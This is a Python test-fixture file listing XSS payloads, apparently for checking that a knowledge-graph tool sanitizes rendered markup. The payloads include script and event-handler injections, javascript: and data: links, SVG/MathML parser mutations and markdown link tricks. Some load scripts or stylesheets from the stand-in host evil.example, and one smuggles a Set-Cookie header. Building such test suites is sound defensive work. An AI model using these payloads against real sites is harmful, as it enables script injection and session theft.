"""Payloads that run a script or contact another host if a page treats them as markup.

Each would run `alert(1)`. KBGRAPH_XSS_FIXTURES may name DOMPurify's
`test/fixtures/expect.mjs`, whose payloads are added.
"""

from __future__ import annotations

import json
import os
import re
from pathlib import Path

OWN = (
    # Elements that run their content.
    "<script>alert(1)</script>",
    "<ScRiPt >alert(1)</sCrIpT>",
    "<script/x>alert(1)</script>",
    "<script src=//evil.example/x.js></script>",
    "<<script>alert(1)//<</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "\"'></title></textarea></style></script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    # Event handlers.
    "<img src=x onerror=alert(1)>",
    "<img src=x:x onerror\n=\nalert(1) >",
    "<img/src='x'/onerror='alert(1)'>",
    '<img """><img src=x onerror=alert(1)>">',
    "<IMG SRC=x OnErRoR=&#97;lert(1)>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>x</details>",
    "<p onmouseover=alert(1) onfocus=alert(1) tabindex=0 autofocus>x</p>",
    "<input autofocus onfocus=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)></audio>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<b onpointerrawupdate=alert(1) onanimationstart=alert(1)>x</b>",
    '" onmouseover=alert(1) x="',
    "' onfocus=alert(1) autofocus x='",
    "` onerror=alert(1) `",
    # Addresses that run scripts.
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\tscript:alert(1)'>x</a>",
    "<a href='java&#10;script:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='\x01javascript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='//evil.example/'>x</a>",
    "<a href='http:javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](<java\tscript:alert(1)>)",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    '[x](https://e.example/"onmouseover=alert(1))',
    '[x][r]\n\n[r]: javascript:alert(1) "onclick=alert(1)"',
    '![x" onerror=alert(1) y="](x)',
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[[javascript:alert(1)]]",
    "[[x|<img src=x onerror=alert(1)>]]",
    '![[x" onerror=alert(1) y="]]',
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    # Other languages within HTML, and mutations when it is parsed again.
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><set attributeName=href to=javascript:alert(1)>",
    "<svg><use href='data:image/svg+xml,<svg id=x onload=alert(1)>#x'></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><mi xlink:href='data:x,<script>alert(1)</script>'>",
    "<form><math><mtext></form><form><mglyph><svg><mtext><style><path id='</style><img onerror=alert(1) src>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><img src=x onerror=alert(1)></template>",
    "<select><template shadowrootmode=open><script>alert(1)</script></template></select>",
    "<xmp><p title='</xmp><img src=x onerror=alert(1)>'></xmp>",
    "<plaintext><img src=x onerror=alert(1)>",
    "<title><a title='</title><img src=x onerror=alert(1)>'>",
    "<!--><img src=x onerror=alert(1)>-->",
    "<!-- --!><img src=x onerror=alert(1)> -->",
    "<![CDATA[><img src=x onerror=alert(1)>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    # Styles, frames, forms, and changes of the base address.
    "<style>@import 'http://evil.example/x.css';*{color:red}</style>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div style=position:fixed;inset:0>x</div>",
    "<link rel=stylesheet href=http://evil.example/x.css>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='&lt;script&gt;alert(1)&lt;/script&gt;'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<base href=javascript:alert(1)//>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "<isindex action=javascript:alert(1) type=image>",
    "<table background=javascript:alert(1)><td background='javascript:alert(1)'>x</table>",
    "<frameset onload=alert(1)><frame src=javascript:alert(1)>",
    "<applet code=x><param name=y value=z></applet>",
    # Names that clash with scripts and style sheets, and elements that leave their container.
    "<p id=main class=skip name=body>x</p>",
    "<a id=location name=cookie href=#x>x</a>",
    "</div></section></main></body></html><script>alert(1)</script>",
    "</dd></dl></li></ol></code><script>alert(1)</script>",
    "{{ 7*7 }}{% include 'x' %}${7*7}#{7*7}",
    "\u202e<script>alert(1)</script>\u2028<img src=x onerror=alert(1)>",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "\ufe64script\ufe65alert(1)\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "x\r\nSet-Cookie: a=b\r\n\r\n<script>alert(1)</script>",
)  # fmt: skip


def fixtures() -> list[str]:
    """Return the payloads in the file that KBGRAPH_XSS_FIXTURES names; none if it is not set."""
    path = os.environ.get("KBGRAPH_XSS_FIXTURES")
    text = Path(path).read_text(encoding="utf-8") if path else ""
    found = re.findall(r"[\"']?payload[\"']?:\s*(\"(?:[^\"\\\n]|\\.)*\")", text)
    assert found or not path, f"no payload in {path}"
    return [json.loads(each, strict=False) for each in found]
